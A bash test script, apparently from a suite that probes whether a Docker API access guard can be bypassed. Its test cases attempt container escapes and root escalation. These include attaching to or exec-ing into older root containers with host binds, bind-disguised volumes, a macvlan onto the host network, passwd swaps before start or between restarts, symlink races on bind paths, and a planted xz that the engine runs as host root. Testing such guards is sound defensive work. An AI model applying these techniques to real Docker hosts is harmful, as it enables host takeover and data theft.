# What stood on the host before it was guarded, and what changes between a create and a start.
# shellcheck shell=bash

# others_container NAME [OPTION...]: somebody's container from before, with all that an attacker wants.
others_container() {
    docker_ create --name "$@" -i -u 0 --network host --pid host -v "$PRIZE:/h" "$ROOT_IMAGE" sh
}

others_running() {
    others_container "$@"
    docker_ start "$1"
}

others_payload() { # one that would run the payload
    docker_ create --name "$@" -u 0 --network host --pid host -v "$PRIZE:/h" "$ROOT_IMAGE" sh -c "$PAYLOAD"
}

road 5.1 start_of_an_old_container "read write process network" "A start of somebody's container from before."
start_of_an_old_container() {
    before_the_gate others_payload other
    run_container other
}

road 8.12 restart_of_an_old_container "read write process network" "A restart of it, which starts what never ran."
restart_of_an_old_container() {
    before_the_gate others_payload other
    send_empty POST /v1.41/containers/other/restart
    read_container other
}

road 8.12 start_by_a_piece_of_its_id "read write" "A start of it by the first letters of its id."
start_by_a_piece_of_its_id() {
    local id
    before_the_gate others_payload other
    id=$(api GET /v1.41/containers/other/json | jq -r .Id)
    run_container "${id:0:5}"
}

road 8.12 start_under_another_name "read write" "It is renamed first, and started under the new name."
start_under_another_name() {
    before_the_gate others_payload other
    send_empty POST '/v1.41/containers/other/rename?name=harmless'
    run_container harmless
}

road 5.1 attach_to_an_old_container "read write" "The standard input of somebody's shell."
attach_to_an_old_container() {
    before_the_gate others_running other
    type_into POST '/v1.41/containers/other/attach?stream=1&stdin=1&stdout=1' raw
}

road 8.11 attach_by_websocket "read write" "The same by a GET, over a WebSocket."
attach_by_websocket() {
    before_the_gate others_running other
    type_into GET '/v1.41/containers/other/attach/ws?stream=1&stdin=1&stdout=1' ws
}

# type_until_started PATH raw|form: types into "other", which its owner starts then.
type_until_started() {
    local typing
    : >"$WORK/typed"
    type_into POST "$1" "$2" &
    typing=$!
    while kill -0 "$typing" 2>/dev/null && [ ! -s "$WORK/typed" ]; do sleep 0.05; done
    before_the_gate docker_ start other
    wait "$typing"
}

road 8.12 attach_before_the_first_start "read write" "The standard input of somebody's shell, held until its owner starts it."
attach_before_the_first_start() {
    before_the_gate others_container other
    type_until_started '/v1.41/containers/other/attach?stream=1&stdin=1&stdout=1' raw
}

road 8.4 attach_with_stdin_in_a_form "read write" "The same, with stdin=1 in a form that a second Content-Type hides."
attach_with_stdin_in_a_form() {
    before_the_gate others_container other
    type_until_started '/v1.41/containers/other/attach?stream=1&stdout=1' form
}

road 8.12 exec_in_an_old_container "read write process network" "A command in somebody's running container."
exec_in_an_old_container() {
    before_the_gate others_running other
    send_json POST /v1.41/containers/other/exec "{\"AttachStdout\":true,\"Cmd\":[\"sh\",\"-c\",\"$PAYLOAD\"]}"
    send_json POST "/v1.41/exec/$(made)/start" '{}'
}

road 8.12 exec_made_before "read write" "A command that was made before and is started now."
exec_made_before() {
    local command
    before_the_gate others_running other
    before_the_gate api POST /v1.41/containers/other/exec -H 'Content-Type: application/json' \
        --data "{\"AttachStdout\":true,\"Cmd\":[\"sh\",\"-c\",\"$PAYLOAD\"]}"
    command=$(jq -r .Id <"$WORK/before")
    send_json POST "/v1.41/exec/$command/start" '{}'
    send_empty POST "/v1.41/exec/$command/resize?h=10&w=10"
}

road 8.12 volumes_of_an_old_container "read write" "VolumesFrom somebody's container, which has a bind of the host."
volumes_of_an_old_container() {
    before_the_gate others_container other
    run_body "$(hardened '"VolumesFrom":["other"]')"
}

road 8.10 old_volume_that_is_a_bind "read write" "A volume from before that is a bind mount, by its name."
old_volume_that_is_a_bind() {
    before_the_gate docker_ volume create -o type=none -o o=bind -o "device=$PRIZE" disguise
    run_body "$(hardened '"Binds":["disguise:/h"]')"
}

road 8.10 old_volume_that_is_an_overlay "read" "One that is an overlay over the folder."
old_volume_that_is_an_overlay() {
    before_the_gate docker_ volume create -o type=overlay -o device=overlay -o "o=lowerdir=$PRIZE:$OPEN" layers
    run_body "$(hardened '"Binds":["layers:/h"]')"
}

# A bridge is the card of the host's here, so that nothing leaves this machine.
macvlan_before() {
    docker_ network create --subnet 10.213.8.0/25 card
    docker_ network create -d macvlan -o parent="br-$(docker_ network inspect -f '{{.Id}}' card | head -c 12)" \
        --subnet 10.213.8.128/25 lan
}

road 8.12 macvlan_from_before "said" "A container in the host's own network, by a macvlan that somebody made before." granted=baseline
macvlan_from_before() {
    TELLTALE=10.213.8.200
    before_the_gate macvlan_before
    run_body "{\"Image\":\"$IMAGE\",\"User\":\"1001:1001\",\"Cmd\":[\"cat\",\"/proc/net/fib_trie\"],\"HostConfig\":{${HARD/none/lan}},
        \"NetworkingConfig\":{\"EndpointsConfig\":{\"lan\":{\"IPAMConfig\":{\"IPv4Address\":\"$TELLTALE\"}}}}}"
}

# A bridge of the attacker's own beside it, and the words that are looked up before its name.
bridge_beside_the_macvlan() {
    TELLTALE=10.213.8.128 # the macvlan in a table of routes
    before_the_gate macvlan_before
    LAN=$(api GET /v1.41/networks/lan | jq -r .Id)
    send_json POST /v1.41/networks/create '{"Name":"own"}'
}

# in_endpoint ID: the create of a container in that bridge whose endpoint has the NetworkID ID.
in_endpoint() {
    printf '{"Image":"%s","User":"1001:1001","Cmd":["cat","/proc/net/fib_trie"],"HostConfig":{%s},' "$IMAGE" "${HARD/none/own}"
    printf '"NetworkingConfig":{"EndpointsConfig":{"own":{"NetworkID":"%s"}}}}' "$1"
}

road 8.12 macvlan_by_a_network_id "said" "The same under the name of a bridge, by the NetworkID of its endpoint." granted=baseline
macvlan_by_a_network_id() {
    bridge_beside_the_macvlan
    run_body "$(in_endpoint "$LAN")"
}

road 8.12 macvlan_by_a_name_for_an_id "said" "The same with the macvlan's name for a NetworkID." granted=baseline
macvlan_by_a_name_for_an_id() {
    bridge_beside_the_macvlan
    run_body "$(in_endpoint lan)"
}

road 8.12 macvlan_by_a_connect "said" "A container connected to a bridge, and to the macvlan by the NetworkID beside it." granted=baseline
macvlan_by_a_connect() {
    local id
    bridge_beside_the_macvlan
    send_json POST /v1.41/networks/create '{"Name":"second"}'
    send_json POST /v1.41/containers/create "$(in_endpoint '')"
    id=$(made)
    send_json POST /v1.41/networks/second/connect "{\"Container\":\"$id\",\"EndpointConfig\":{\"NetworkID\":\"$LAN\"}}"
    run_container "$id"
}

road 8.12 macvlan_id_from_before "said" "A start of a container that was made so before." granted=baseline
macvlan_id_from_before() {
    bridge_beside_the_macvlan
    before_the_gate api POST '/v1.41/containers/create?name=other' -H 'Content-Type: application/json' --data "$(in_endpoint "$LAN")"
    run_container other
}

road 8.10 old_volume_in_a_mount "read write" "The same under Mounts."
old_volume_in_a_mount() {
    before_the_gate docker_ volume create -o type=none -o o=bind -o "device=$PRIZE" disguise
    run_body "$(hardened '"Mounts":[{"Type":"volume","Source":"disguise","Target":"/h"}]')"
}

road 5.1 copy_out_of_an_old_container "read" "A file of the host copied out through somebody's bind mount."
copy_out_of_an_old_container() {
    before_the_gate others_container other
    send GET '/v1.41/containers/other/archive?path=/h/secret'
    api HEAD '/v1.41/containers/other/archive?path=/h/secret' -I >>"$LOOT"
}

road 5.1 copy_into_an_old_container "write" "A file put on the host through somebody's bind mount."
copy_into_an_old_container() {
    before_the_gate others_container other
    mkdir -p "$WORK/into" && echo changed >"$WORK/into/target"
    tar -C "$WORK/into" -c target >"$WORK/into.tar"
    send_stream PUT '/v1.41/containers/other/archive?path=/h' "$WORK/into.tar"
}

road 5.1 copy_by_the_old_endpoint "read" "A file copied out by the endpoint that engines had before." engines=20.10
copy_by_the_old_endpoint() {
    before_the_gate others_container other
    send_json POST /v1.23/containers/other/copy '{"Resource":"/h/secret"}'
}

road 8.11 export_of_an_old_container "read" "The export of somebody's container." \
    "no_control=engines leave mounts out of an export"
export_of_an_old_container() {
    before_the_gate others_container other
    send GET /v1.41/containers/other/export
}

road 8.12 old_container_that_always_restarts "process" "Somebody's container killed, so that its restart policy runs it again with new input." \
    "no_control=what it runs is what its owner chose; the attacker adds nothing"
old_container_that_always_restarts() {
    before_the_gate others_running other --restart always
    send_empty POST /v1.41/containers/other/kill
    type_into POST '/v1.41/containers/other/attach?stream=1&stdin=1&stdout=1' raw
}

road 8.12 update_that_restarts "read write" "An old container given a restart policy, so that the engine starts it unasked." \
    "no_control=engines start by policy only what has run before"
update_that_restarts() {
    before_the_gate others_payload other
    send_json POST /v1.41/containers/other/update '{"RestartPolicy":{"Name":"always"}}'
    send GET '/v1.41/containers/other/logs?stdout=1'
}

# read_twice ID: what a container said that its restart policy starts a second time.
read_twice() {
    local tries
    for ((tries = 0; tries < 50; tries++)); do
        [ "$(api GET "/v1.41/containers/$1/json" | jq '.RestartCount == 1 and (.State.Running | not)')" != true ] || break
        sleep 0.1
    done
    send GET "/v1.41/containers/$1/logs?stdout=1"
}

run_twice() {
    [ -n "$1" ] || return
    send_empty POST "/v1.41/containers/$1/start"
    [ "$(status)" != 204 ] || read_twice "$1"
}

# --- users by name ---------------------------------------------------------------------------

# passwd_tar LINE: $WORK/passwd.tar holds a passwd of that line.
passwd_tar() {
    mkdir -p "$WORK/passwd.d" && printf '%s\n' "$1" >"$WORK/passwd.d/passwd"
    tar -C "$WORK/passwd.d" -c passwd >"$WORK/passwd.tar"
}

road 8.13 passwd_edited_by_copy "root" "A user by name, whose line in passwd is replaced by copying a file in before the start." granted=baseline
passwd_edited_by_copy() {
    local id
    send_json POST /v1.41/containers/create "{\"Image\":\"$IMAGE\",\"User\":\"app\",\"Cmd\":[\"sh\",\"-c\",\"$PAYLOAD\"],\"HostConfig\":{${HARD/\"ReadonlyRootfs\":true/\"ReadonlyRootfs\":false}}}"
    id=$(made)
    passwd_tar 'app:x:0:0::/:/bin/sh'
    send_stream PUT "/v1.41/containers/$id/archive?path=/etc" "$WORK/passwd.tar"
    run_container "$id"
}

road 8.13 passwd_edited_in_a_hardened_one "root" "The same in a container with a read-only root." \
    "no_control=engines refuse to copy into a read-only root"
passwd_edited_in_a_hardened_one() {
    local id
    send_json POST /v1.41/containers/create "{\"Image\":\"$IMAGE\",\"User\":\"app\",\"Cmd\":[\"sh\",\"-c\",\"$PAYLOAD\"],\"HostConfig\":{$HARD}}"
    id=$(made)
    passwd_tar 'app:x:0:0::/:/bin/sh'
    send_stream PUT "/v1.41/containers/$id/archive?path=/etc" "$WORK/passwd.tar"
    run_container "$id"
}

road 8.13 passwd_edited_between_restarts "root" \
    "A user by name, whose line is replaced while it runs; then it fails, and its restart policy starts it as root." granted=baseline
passwd_edited_between_restarts() {
    local id
    send_json POST /v1.41/containers/create "{\"Image\":\"$IMAGE\",\"User\":\"app\",\"Cmd\":[\"sh\",\"-c\",\"$PAYLOAD; until grep -q :0:0: /etc/passwd; do sleep 0.1; done; exit 1\"],\"HostConfig\":{${HARD/\"ReadonlyRootfs\":true/\"ReadonlyRootfs\":false},\"RestartPolicy\":{\"Name\":\"on-failure\",\"MaximumRetryCount\":1}}}"
    id=$(made)
    [ -n "$id" ] || return
    send_empty POST "/v1.41/containers/$id/start"
    passwd_tar 'app:x:0:0::/:/bin/sh'
    send_stream PUT "/v1.41/containers/$id/archive?path=/etc" "$WORK/passwd.tar"
    read_twice "$id"
}

road 8.13 passwd_in_a_volume_over_etc "root" "A user by name, and a volume over /etc with a passwd of the attacker's." granted=baseline \
    "no_control=engines look the name up below the mount"
passwd_in_a_volume_over_etc() {
    local id
    before_the_gate make_image qw/etc:1 'USER 1001' 'VOLUME /etc' -- 'app:x:0:0::/:/bin/sh'
    # A volume is filled from the image that it is first used with.
    run_body "{\"Image\":\"qw/etc:1\",\"User\":\"1001:1001\",\"Cmd\":[\"true\"],\"HostConfig\":{$HARD,\"Binds\":[\"etc:/etc\"]}}"
    run_body "{\"Image\":\"$IMAGE\",\"User\":\"app\",\"Cmd\":[\"sh\",\"-c\",\"$PAYLOAD\"],\"HostConfig\":{$HARD,\"Binds\":[\"etc:/etc\"]}}"
}

road 8.13 etc_that_is_a_link_into_a_volume "root" \
    "A user by name in an image whose /etc is a link into a volume, which holds a passwd of the attacker's." granted=baseline \
    "no_control=engines look the name up below the mount"
etc_that_is_a_link_into_a_volume() {
    before_the_gate make_image qw/fill:1 'USER 1001' 'VOLUME /data' -- 'app:x:0:0::/:/bin/sh'
    before_the_gate linked_image
    run_body "{\"Image\":\"qw/fill:2\",\"User\":\"1001:1001\",\"Cmd\":[\"true\"],\"HostConfig\":{$HARD,\"Binds\":[\"data:/data\"]}}"
    run_body "{\"Image\":\"qw/linked:1\",\"User\":\"app\",\"Cmd\":[\"sh\",\"-c\",\"$PAYLOAD\"],\"HostConfig\":{$HARD,\"Binds\":[\"data:/data\"]}}"
}

linked_image() {
    rm -rf "$WORK/made" && cp -a "$WORK/image" "$WORK/made"
    mkdir "$WORK/made/data" && mv "$WORK/made/etc/group" "$WORK/made/data/"
    printf 'app:x:0:0::/:/bin/sh\n' >"$WORK/made/data/passwd"
    tar -C "$WORK/made" -c . | docker_ import --change 'USER 1001' - qw/fill:2
    printf 'app:x:1001:1001::/:/bin/sh\n' >"$WORK/made/data/passwd"
    rm -rf "$WORK/made/etc" && ln -s /data "$WORK/made/etc"
    tar -C "$WORK/made" -c . | docker_ import --change 'USER 1001' - qw/linked:1
}

road 8.13 passwd_that_is_a_link "root" "A user by name in an image whose passwd is a link to another file." granted=baseline
passwd_that_is_a_link() {
    before_the_gate image_with_a_linked_passwd
    as_user app qw/linked:2
}

image_with_a_linked_passwd() {
    rm -rf "$WORK/made" && cp -a "$WORK/image" "$WORK/made"
    printf 'app:x:0:0::/:/bin/sh\n' >"$WORK/made/real" && ln -sf /real "$WORK/made/etc/passwd"
    tar -C "$WORK/made" -c . | docker_ import --change 'USER 1001' - qw/linked:2
}

road 8.13 passwd_in_a_tmpfs_over_etc "root" "A user by name with a tmpfs over /etc, which hides the passwd." \
    granted=baseline "no_control=engines look the name up below the mount"
passwd_in_a_tmpfs_over_etc() {
    run_body "{\"Image\":\"$IMAGE\",\"User\":\"app\",\"Cmd\":[\"sh\",\"-c\",\"$PAYLOAD\"],\"HostConfig\":{$HARD,\"Tmpfs\":{\"/etc\":\"\"}}}"
}

road 8.13 tag_moved_after_create "root" "A tag moved to an image of root between a create and its start." \
    "no_control=a container keeps the image that it was made from"
tag_moved_after_create() {
    local id
    before_the_gate make_image qw/moving:1 'USER 1001'
    send_json POST /v1.41/containers/create "{\"Image\":\"qw/moving:1\",\"Cmd\":[\"sh\",\"-c\",\"$PAYLOAD\"],\"HostConfig\":{$HARD}}"
    id=$(made)
    send_empty POST "/v1.41/images/$ROOT_IMAGE/tag?repo=qw/moving&tag=1"
    run_container "$id"
}

# --- folders of the host ---------------------------------------------------------------------

road 8.10 link_of_the_host "read write" "A bind mount of a link in an open folder, which leads to a closed one."
link_of_the_host() {
    ln -s "$PRIZE" "$OPEN/link"
    run_body "$(hardened "\"Binds\":[\"$OPEN/link:/h\"]")"
}

road 8.10 link_set_after_create "read write" "A bind mount of an open folder, which becomes a link before the start."
link_set_after_create() {
    local id
    mkdir "$OPEN/fine" && chmod 777 "$OPEN/fine"
    send_json POST /v1.41/containers/create "$(hardened "\"Binds\":[\"$OPEN/fine:/h\"]")"
    id=$(made)
    rmdir "$OPEN/fine" && ln -s "$PRIZE" "$OPEN/fine"
    run_container "$id"
}

road 8.10 link_set_by_a_restart "read write" "The same, and a restart instead of a start."
link_set_by_a_restart() {
    local id
    mkdir "$OPEN/fine" && chmod 777 "$OPEN/fine"
    send_json POST /v1.41/containers/create "$(hardened "\"Binds\":[\"$OPEN/fine:/h\"]")"
    id=$(made)
    rmdir "$OPEN/fine" && ln -s "$PRIZE" "$OPEN/fine"
    send_empty POST "/v1.41/containers/$id/restart"
    [ -z "$id" ] || read_container "$id"
}

road 8.12 link_set_before_a_restart_by_policy "read write" \
    "A container with an open folder and a folder below it: it makes the second a link, fails, and is started again by its restart policy." \
    "limit=baseline"
link_set_before_a_restart_by_policy() {
    mkdir "$OPEN/fine" && chown 1001 "$OPEN/fine"
    send_json POST /v1.41/containers/create "{\"Image\":\"$IMAGE\",\"User\":\"1001:1001\",\"Cmd\":[\"sh\",\"-c\",\"$PAYLOAD; cd /open && busybox mv fine old && busybox ln -s $PRIZE fine; exit 1\"],\"HostConfig\":{$HARD,\"Binds\":[\"$OPEN:/open\",\"$OPEN/fine:/h\"],\"RestartPolicy\":{\"Name\":\"on-failure\",\"MaximumRetryCount\":1}}}"
    run_twice "$(made)"
}

road 8.10 writable_folder_as_root "root write_open" "A writable bind mount of an open folder, used as root: a file of root's appears on the host." \
    granted=baseline
writable_folder_as_root() {
    run_body "{\"Image\":\"$IMAGE\",\"User\":\"0\",\"Cmd\":[\"sh\",\"-c\",\"cat /proc/self/status; echo a >/h/of_root\"],\"HostConfig\":{$HARD,\"Binds\":[\"$OPEN:/h\"]}}"
}

image_with_its_own_xz() {
    local program
    rm -rf "$WORK/made" && cp -a "$WORK/image" "$WORK/made"
    mkdir -p "$WORK/made/usr/bin"
    for program in xz unpigz; do
        printf '#!/bin/sh\nbusybox mount -t proc proc /proc\ncat /proc/[0-9]*/cmdline >/found\n' >"$WORK/made/usr/bin/$program"
        chmod 755 "$WORK/made/usr/bin/$program"
    done
    tar -C "$WORK/made" -c . | docker_ import --change 'USER 1001' - qw/xz:1
}

road 5.1 copy_in_of_a_compressed_file "process" \
    "A compressed archive copied into a container of one's own: the engine runs the container's own xz as root of the host." \
    "no_control=Debian's engines carry the fix; those of the same versions elsewhere may not"
copy_in_of_a_compressed_file() {
    local id
    before_the_gate image_with_its_own_xz
    send_json POST /v1.41/containers/create "{\"Image\":\"qw/xz:1\",\"User\":\"1001:1001\",\"Cmd\":[\"true\"],\"HostConfig\":{${HARD/\"ReadonlyRootfs\":true/\"ReadonlyRootfs\":false}}}"
    if [ -z "$(made)" ]; then
        send_json POST /v1.41/containers/create "{\"Image\":\"qw/xz:1\",\"User\":\"1001:1001\",\"Cmd\":[\"true\"],\"HostConfig\":{$HARD}}"
    fi
    id=$(made)
    { printf '\xfd7zXZ\0' && head -c 1000 /dev/zero; } >"$WORK/packed.tar.xz"
    send_stream PUT "/v1.41/containers/$id/archive?path=/" "$WORK/packed.tar.xz"
    tar -C "$WORK/image/etc" -cz group >"$WORK/packed.tar.gz"
    send_stream PUT "/v1.41/containers/$id/archive?path=/" "$WORK/packed.tar.gz"
    send GET "/v1.41/containers/$id/archive?path=/found"
}
